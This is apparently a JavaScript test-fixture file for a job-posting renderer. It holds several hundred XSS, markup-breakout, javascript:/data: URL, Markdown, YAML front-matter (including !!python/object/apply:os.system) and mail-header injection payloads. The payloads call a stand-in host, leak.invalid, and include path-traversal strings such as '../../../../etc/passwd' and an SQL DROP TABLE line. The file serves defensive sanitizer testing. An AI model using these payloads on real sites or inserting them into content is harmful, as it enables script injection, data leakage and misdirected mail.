// What somebody could write into a posting to make its page do something else: run a script, ask another host, lead
// elsewhere, or send the mail to somebody it isn't meant for. Each says so if it succeeds: it sets `window.au_ran` to its
// number, opens a dialog, or asks leak.invalid.

const host = 'leak.invalid';
const leak = `http://${host}`;
const run = 'window.au_ran=0'; // 0 becomes the vector's number

/** What a script of theirs looks like as an address. */
const js = `javascript:${run}`;

/** Elements that run, fetch, lead away or cover what is there. @type {string[]} */
const elements = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script >`, `<script src=${leak}/s.js></script>`, `<script src=//${host}/s.js async>`,
  `<script type=module>import '${leak}/m.js'</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`, `<script>${run}`, `<script\n>alert(1)</script\n>`,
  `<script type="text/javascript" defer>location='${leak}/l'</script>`, `<script>document.write('<img src=${leak}/w>')</script>`, `<script type=importmap>{"imports":{"x":"${leak}/i"}}</script>`,
  `<img src=x onerror=${run}>`, `<IMG SRC=x OnErRoR="${run}">`, `<img/src="x"/onerror=${run}>`, `<img\tsrc=x\tonerror=${run}\t>`, `<img src=x onerror\n=\n${run}>`, `<img src="x" onerror='alert(1)'`, `<img src=${leak}/i.png>`,
  `<img src=\`x\` onerror=${run}>`, `<img srcset="${leak}/a 1x, ${leak}/b 2x">`, `<img src="data:image/svg+xml,<svg onload=${run}>">`, `<image src=x onerror=${run}>`, `<img src=x:x onerror=${run}//`, `<picture><source srcset=${leak}/p><img src=x></picture>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:,${run}"/></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values="${js}"/><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x"/></svg>`, `<svg><image href=${leak}/v></svg>`, `<svg><foreignObject><iframe src="${js}"></iframe></foreignObject></svg>`,
  `<svg><style>@import '${leak}/y';</style></svg>`, `<svg><set attributeName=onmouseover to=${run}></svg>`, `<math href="${js}">x</math>`, `<math><maction actiontype="statusline#${leak}" xlink:href="${js}">x</maction></math>`,
  `<iframe src="${js}"></iframe>`, `<iframe src=${leak}/f>`, `<iframe srcdoc="&lt;script&gt;parent.au_ran=0&lt;/script&gt;"></iframe>`, `<iframe onload=${run}></iframe>`, `<frameset onload=${run}><frame src=${leak}/g></frameset>`, `<fencedframe src=${leak}></fencedframe>`,
  `<object data="${js}"></object>`, `<object data=${leak}/o type=text/html></object>`, `<embed src="${js}">`, `<embed src=${leak}/e>`, `<applet code=${leak}/a></applet>`, `<portal src=${leak}/p></portal>`,
  `<form action="${js}"><input type=submit autofocus></form>`, `<form action=${leak} id=au-posting><button>Apply</button></form>`, `<button formaction="${js}" form=au-apply>Apply</button>`, `<input autofocus onfocus=${run}>`, `<input type=image src=${leak}/n onerror=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`, `<select autofocus onfocus=${run}><option>x</select>`, `<details open ontoggle=${run}><summary>x</summary></details>`, `<dialog open onclose=${run}>x</dialog>`, `<video src=x onerror=${run}></video>`, `<video poster=${leak}/t><source onerror=${run}></video>`,
  `<audio src=${leak}/u autoplay onloadstart=${run}></audio>`, `<marquee onstart=${run}>x</marquee>`, `<body onload=${run}>`, `<body background=${leak}/b onpageshow=${run}>`, `<bgsound src=${leak}/z>`, `<p hidden=until-found onbeforematch=${run}>x</p>`, `<div popover id=x onbeforetoggle=${run}>x</div>`,
  `<div style="animation:x 1s" onanimationstart=${run}>x</div>`, `<p onclick=${run} onpointerover=${run} onwheel=${run} style="position:fixed;inset:0;z-index:99">all of the page</p>`, `<a href="${js}">x</a>`, `<a href=${leak} ping=${leak}/ping target=_top download>x</a>`, `<area href="${js}" shape=default>`,
  `<base href=${leak}/>`, `<base target=_blank href="//${host}/x/">`, `<meta http-equiv=refresh content="0;url=${leak}/r">`, `<meta http-equiv=refresh content="0;${js}">`, `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`, `<meta http-equiv=set-cookie content="au=1">`, `<meta name=referrer content=unsafe-url>`,
  `<link rel=stylesheet href=${leak}/c.css>`, `<link rel=prefetch href=${leak}/d>`, `<link rel="icon preload manifest" as=script href=${leak}/h>`, `<link rel=preconnect href=${leak}>`, `<style>body{background:url(${leak}/k)}</style>`, `<style>@import "${leak}/j";</style>`, `<style onload=${run}></style>`,
  `<p style="background:url(${leak}/q)">x</p>`, `<p style="width:expression(${run})">x</p>`, `<p style="-moz-binding:url(${leak}/xbl#x);behavior:url(${leak})">x</p>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`, `<template><script>${run}</script></template>`,
  `<noscript><img src=${leak}/ns></noscript>`, `<aushang-posting src=${leak}/></aushang-posting>`, `<x-y is=script onclick=${run}>x</x-y>`, `<canvas id=canvas></canvas><div id=au-panel></div>`, `<a id=au-mail href="mailto:evil@${host}">Open in your mail app</a>`, `<link id=au-bundle href=${leak}/posting.json><link id=au-wasm href=${leak}/w.wasm>`,
];

/** The ways out of where a text stands: elements, attributes, comments, data. @type {string[]} */
const breakouts = [
  `" onmouseover="${run}`, `' onfocus='${run}' autofocus x='`, `" autofocus onfocus=${run} x="`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `\`><img src=x onerror=${run}>`, `x"/><svg/onload=${run}>`, `x onload=${run}`, `" style="background:url(${leak}/q2)`, `"formaction="${js}`,
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><img src=x onerror=${run}>`, `</script><script>${run}</script>`, `</ScRiPt ><img src=x onerror=${run}>`, `</script\n><svg onload=${run}>`, `<!--<script>`, `<!-- <script> --> </script><img src=x onerror=${run}>`,
  `--><img src=x onerror=${run}><!--`, `--!><img src=x onerror=${run}>`, `<!--><img src=x onerror=${run}>`, `<!-- x`, `<![CDATA[<img src=x onerror=${run}>]]>`, `]]><script>${run}</script>`, `<!doctype x [<!entity y "${run}">]>&y;`, `<?xml-stylesheet href="${leak}/x.css"?><?php x ?>`, `<%= ${run} %>`, `<!--[if IE]><script>${run}</script><![endif]-->`,
  `</p></article></main></body></html><script>${run}</script>`, `</li></ul></div></section><form action=${leak}>`, `</option></select><img src=x onerror=${run}>`, `</legend></fieldset><base href=${leak}>`, `</a><a href="${js}">`, `</span></label><input onfocus=${run} autofocus>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&#60img src=x onerror=${run}&#62`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `&quot; onmouseover=&quot;${run}`, `&lt;svg onload=${run}&gt;`, `&NewLine;&Tab;&colon;&lpar;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${run}\\x3e`, `\\3c img src=x onerror=${run}\\3e`, `%3Cscript%3E${run}%3C/script%3E`, `%253Cimg%2520src=x%253E`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\\";${run};//`, `';${run};'`, `"}],"x":{"y":"</script>`, `</script>","@type":"Thing`,
  // Parsers that read such things twice take the second half for markup.
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<style><p title="</style><img src=x onerror=${run}>">`, `<textarea><p title="</textarea><img src=x onerror=${run}>">`, `<title><a title="</title><img src=x onerror=${run}>">`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`, `<table><a href="${js}"><td>x`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<plaintext>`, `<listing>\n<img src=x onerror=${run}>`, `<option><style></option></select><img src=x onerror=${run}></style>`, `<p id="<img src=x onerror=${run}>">`, `<a title='"><img src=x onerror=${run}>'>`, `<b <script>${run}</script>0`, `<x/onclick=${run}/x="`, `<img alt="<x" title="/><img src=x onerror=${run}>">`,
];

/** What only looks harmless, or only to one of those who read it. @type {string[]} */
const disguises = [
  `＜script＞${run}＜/script＞`, `\u02c2img src=x onerror=${run}\u02c3`, `<scr\u200bipt>${run}</scr\u200bipt>`, `<\u00a0img src=x onerror=${run}>`, `<img\u000bsrc=x onerror=${run}>`, `<img\u000csrc=x\u000conerror=${run}>`, `<img\u3000src=x onerror=${run}>`, `<ımg src=x onerror=${run}>`, `<ſcript>${run}</ſcript>`,
  `x\u2028${run}\u2029y`, `\u2028<img src=x onerror=${run}>`, `\u0085<img src=x onerror=${run}>`, `\ufeff<img src=x onerror=${run}>`, `<\u00adimg src=x onerror=${run}>`, `\ufffe\uffff<b>x`, `\u{e0041}<img src=x onerror=${run}>`, `\u001b[2J\u001b]0;x\u0007<b>x`, `\u0008\u0008<img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`, `{{ page.title }}{% include x.html %}`, '${' + run + '}', '#{' + run + '}', `[[${run}]]`, '{title} {name} {text} {label} {tag} {list} {last} {date} {position} {parts}', '%s %n %1$s {0} {}', '$& $1 $` $\' $$', '<% %> <# #> <? ?> *{x}',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '{"__proto__":{"au_ran":1}}', '__proto__[au_ran]=1', 'constructor.prototype.au_ran=1',
  'au-posting', 'au-mail', 'getElementById', 'canvas', 'location', 'parent', 'undefined', 'null', 'NaN', '[object Object]',
  `red;background:url(//${host}/r)`, `x}body{background:url(${leak}/s)}`, `expression(${run})`, `url(${js})`, `/*</style><img src=x onerror=${run}>*/`, `'; DROP TABLE x; --`, '../../../../etc/passwd', '..\\..\\x', `//${host}/x`, `\\\\${host}\\x`,
  `[x](${js})`, `![x](${leak}/md.png)`, `<${js}>`, `[x]: ${js}`, `\`\`\`\n<img src=x onerror=${run}>`, `| <img src=x onerror=${run}> |`, `{: onclick="${run}"}`, `x\n<script>${run}</script>`, `x\r\n\r\n<script>${run}</script>`,
];

/** Mail that would go to others, or hold other headers. @type {string[]} */
const headers = [
  `x\r\nBcc: evil@${host}`, `x\nBcc: evil@${host}`, `x\rCc: evil@${host}`, `x%0D%0ABcc:%20evil@${host}`, `x%0ABcc: evil@${host}`, `x%250D%250ABcc:evil@${host}`, `&bcc=evil@${host}`, `?bcc=evil@${host}`, `&cc=evil@${host}&to=evil@${host}`, `x&body=${leak}`, `#&bcc=evil@${host}`, `x\u0000\r\nTo: evil@${host}`,
  `=?utf-8?q?=0D=0ABcc:_evil@${host}?=`, `=?utf-8?b?DQpCY2M6IGV2aWxAbGVhay5pbnZhbGlk?=`, `x\r\n\r\n.\r\nMAIL FROM:<evil@${host}>`, `x\u2028Bcc: evil@${host}`, `x\u0085Bcc: evil@${host}`, `x\u000b\u000cBcc: evil@${host}`, `\u560d\u560aBcc: evil@${host}`, `,evil@${host}`, `;evil@${host}`, `"evil" <evil@${host}>`, `evil@${host}%2C`, `mailto:evil@${host}`,
];

/** Any text that somebody writes somewhere. @type {string[]} */
export const texts = [...elements, ...breakouts, ...disguises, ...headers].map((text, i) => text.replaceAll('au_ran=0', `au_ran=${i + 1}`));

/** Addresses that must not be links, pictures or settings; last, some that may be a link but are not to be asked. @type {string[]} */
export const addresses = [
  js, `JaVaScRiPt:${run}`, ` ${js}`, `\t${js}`, `\u0001${js}`, `\u000c${js}`, `\ufeff${js}`, `\u00a0${js}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\r\nscript:${run}`, `java\u0000script:${run}`, `java\u00adscript:${run}`, `java\u200bscript:${run}`, `javascript\t:${run}`, `javascript :${run}`,
  `javascript\uff1a${run}`, `javascript&colon;${run}`, `javascript&#58;${run}`, `javascript&#x3A;${run}`, `&#106;avascript:${run}`, `&#x6A;&#x61;vascript:${run}`, `&#0000106avascript:${run}`, `java&Tab;script:${run}`, `java&NewLine;script:${run}`, `java&#9;script:${run}`, `%6aavascript:${run}`, `javascript%3A${run}`, `\\javascript:${run}`, `java\\script:${run}`,
  `javascript://x/%0a${run}`, `javascript://example.org/?%0d${run}//`, `javascript:/*x*/${run}`, `javascript:"<img src=x onerror=${run}>"`, `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${run})//</script>`, `vbscript:msgbox(1)`, `livescript:${run}`, `mocha:${run}`, `x-javascript:${run}`, `feed:javascript:${run}`, `view-source:${js}`, `jar:${js}!/`,
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXVfcmFuPTE8L3NjcmlwdD4=`, `DATA:text/html,<img src=x onerror=${run}>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `data:,x`, `data:application/javascript,${run}`,
  `blob:${leak}/x`, 'filesystem:http://x/', 'file:///etc/passwd', `ftp://${host}/x`, 'about:blank', 'chrome://settings', `ws://${host}/`, 'intent://x#Intent;end', 'ms-settings:x', 'x:', ':x', '::', '//', 'https:', 'https://', 'http://[', 'https://@', 'http://%00/', 'http://a b/', 'https://127.0.0.1\\@x.example/',
  `https://user:pass@${host}/`, `https://group.example@${host}/`, `https://${host}"onmouseover="${run}`, `https://${host}/"><script>${run}</script>`, `https://${host}/'onclick='${run}`, `https://${host}/\u2028`, `https://${host}/\r\nSet-Cookie: au=1`, `https://${host}/</script><script>${run}</script>`, `https://xn--/`, `https://le\u0430k.invalid/`,
  `//${host}/a.png`, `\\\\${host}\\a.png`, `/\\${host}/a.png`, `\t//${host}/a.png`, `/\t/${host}/a.png`, `http:${host}/a.png`, `http:/${host}/a.png`, `HTTP://${host}/a.png`, `${leak}/a.png`, `/%2f${host}/a.png`, `./\t//${host}/a.png`,
].map((text, i) => text.replaceAll('au_ran=0', `au_ran=${i + 1001}`));

/** Pages as somebody could write them: Markdown with what it allows beside its own, and what generators add. @type {string[]} */
export const pages = [
  `[a][r] ![b][r] [r]\n\n[r]: ${js} "onclick=${run}"`, `[a](<${js}> 'x')`, `[a](https://example.org/ "x\\" onmouseover=\\"${run}")`, `[a](https://example.org/"onmouseover="${run})`, `![x" onerror="${run}](x.png)`, `![a](x.png "x' onerror='${run}")`, `[![a](${js})](${js})`, `[a\\](${js})](${js})`, `[<img src=x onerror=${run}>](https://example.org/)`,
  `<${js}>`, `<data:text/html,x>`, `<https://example.org/"onclick="${run}>`, `<x@y.example"onclick="${run}>`, `${leak}/bare www.${host} evil@${host}`, `[a](\n${js}\n)`, `[a](java&#10;script:${run})`, `[a](&#x6A&#x61&#x76&#x61script&#x3A${run})`, `[__proto__][__proto__] [constructor]\n\n[__proto__]: ${js}\n[constructor]: data:text/html,x`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``, `~~~ x" onclick="${run}\nx\n~~~`, `    <script>${run}</script>`, `\`<script>${run}</script>\``, `# <svg onload=${run}>\n\n# "><img src=x onerror=${run}>`, `# au-posting\n\n# au-mail\n\n# Au Apply\n\n# x{#au-panel onclick=${run}}`, `| a<script>${run}</script> | b |\n|:--|--:|\n| <img src=x onerror=${run}> | [c](${js}) |`,
  `> <script>\n> ${run}\n> </script>`, `- <img src=x onerror=${run}>\n  - <svg onload=${run}>`, `1. <iframe src=${leak}>\n\n   </iframe>`, `- [ ] <input onfocus=${run} autofocus>\n- [x] [c](${js})`, `<div onclick=${run}><p style="background:url(${leak})">*kept* <a href="${js}">x</a></p></div>`, `<div\nonclick=${run}\n>\n\nkept\n\n</div>`,
  `<table><tr><td onclick=${run}><img src=${leak}/t onerror=${run}></td></tr></table>`, `<pre><script>${run}</script></pre>`, `<a href="java&#9;script:${run}" onclick=${run}>x</a> y`, `a <a href='${js}'>b</a> <a name="au-mail">c</a> <a id="au-apply">d</a>`, `x <span onclick="${run}" style="color:red">y</span> <img src="x.png" onerror="${run}" alt='" onload="${run}'>`, `x<!-- > <script>${run}</script> -->y`,
  `<!-- \n\n<script>${run}</script>\n\n-->`, `<!--\n--!><script>${run}</script>`, `<?php\n${run}\n?>`, `<!X ${run}>`, `<![CDATA[\n</script><img src=x onerror=${run}>\n]]>`, `<style>\n*{background:url(${leak})}\n</style>\n\nkept`, `<textarea>\n</textarea><script>${run}</script>`, `<script>\nif (a < b) {\n\n${run}\n\n}\n</script>\n\nkept`,
  `<svg>\n<style><img title="</style><script>${run}</script>"></style>\n</svg>`, `<math>\n<mi//xlink:href="data:x,<script>${run}</script>">\n</math>`, `<noscript>\n\n<p title="</noscript><img src=x onerror=${run}>">\n\n</noscript>`, `<details open ontoggle=${run}>\n<summary>x</summary>\n\n[y](${js})\n\n</details>`,
  `para\n{: onclick="${run}" style="position:fixed"}`, `[a](https://example.org/){: onclick="${run}" target="_top"}`, `{::nomarkdown}<script>${run}</script>{:/}`, `{::comment}<script>${run}</script>{:/comment} x`, `{::options parse_block_html="true" /}\n<div>[a](${js})</div>`, `x{:toc}\n\n* x\n{:toc onclick=${run}}`,
  `{{ page.evil }} {{ page.title | escape }} {{ "<script>${run}</script>" }} {{ '${js}' }}`, `{% raw %}<script>${run}</script>{% endraw %}`, `{% include ${leak} %}{% assign x = "<script>" %}{{ x }}`, `[a]({{ page.evil }}) ![a]({{ page.picture }})`, `{{< youtube ${run} >}} {{% x "<script>" %}}`, `{%- comment -%}<script>${run}</script>{%- endcomment -%}`,
  `Footnote[^1]\n\n[^1]: <script>${run}</script> [x](${js})`, `Term\n: <img src=x onerror=${run}>`, `*[HTML]: <script>${run}</script>\n\nHTML`, `$$<script>${run}</script>$$ \\(<img src=x onerror=${run}>\\)`, `==<b onclick=${run}>x</b>== ~~<s onclick=${run}>y~~`, `:smile<script>: @user #tag`, `<https://example.org/\u202e/gpj.exe> \u202eevil\u202c`, `[mail](mailto:evil@${host}?bcc=x@${host})`,
  `[here](mailto:jobs@group.example%2Cevil@${host})`, `[here](mailto:jobs@group.example,evil@${host})`, `[here](MAILTO:jobs@group.example?bcc=evil@${host})`, `[here](mailto:jobs%40group.example%0D%0ABcc:evil@${host})`, `[here](mailto:evil@${host}?to=jobs@group.example)`,
].map((text, i) => text.replaceAll('au_ran=0', `au_ran=${i + 2001}`));

/** Front matter beyond a title: what YAML and TOML can do, and what others read from there. @type {string[]} */
export const fronts = [
  `---\ntitle: !!python/object/apply:os.system ["x"]\n---`, `---\ntitle: !!js/function 'function () { ${run} }'\n---`, `---\n<<: &a {title: "<script>${run}</script>"}\nx: *a\n---`, `---\ntitle: >\n  </title><script>${run}</script>\n---`, `---\ntitle: |\n  a\n  <img src=x onerror=${run}>\n---`, `---\n"__proto__": {title: x}\nconstructor: {prototype: {title: y}}\ntitle: z\n---`,
  `---\ntitle: "a\\u0000b\\e[2Jc\\x07"\n---`, `---\ntitle: [<b>, {a: "<script>${run}</script>"}]\n---`, `---\ntitle: t\nlang: en"><script>${run}</script>\n---`, `---\ntitle: t\nlang: "de' onclick='${run}"\n---`, `---\ntitle: t\nlang: ../../x\n---`, `---\ntitle: t\nlang: ${js}\n---`, `---\ntitle: t\nlang: "__proto__"\n---`, `---\ntitle: t\nlang: xx\n---`,
  `---\ntitle: t\ndescription: "[x](${js}) <img src=x onerror=${run}> \\" content=x http-equiv=refresh"\n---`, `---\ntitle: t\nlayout: ${leak}\npermalink: ../../x.html\nredirect_to: ${leak}\ncanonical_url: ${js}\nhead: <script>${run}</script>\n---`, `---\nevil: "${js}"\npicture: "${leak}/p.png"\ntitle: t\n---\n[a]({{ page.evil }}) ![a]({{ page.picture }}) {{ page.evil }}`,
  `+++\ntitle = "</title><script>${run}</script>"\nlang = 'en" onclick="x'\n+++`, `+++\ntitle = """\n<svg onload=${run}>"""\n[__proto__]\ntitle = "x"\n+++`, `+++\n"title" = "\\u003cscript\\u003e${run}\\u003c/script\\u003e"\n+++`, `---\ntitle: t\n---\n---\ntitle: <script>${run}</script>\n---`, `---\ntitle: &x "<b>"\ndescription: *x\nsummary: *y\n---`, `---\ntitle: "\\uD800\\uDC00 \\uD800"\n---`,
].map((text, i) => text.replaceAll('au_ran=0', `au_ran=${i + 3001}`));
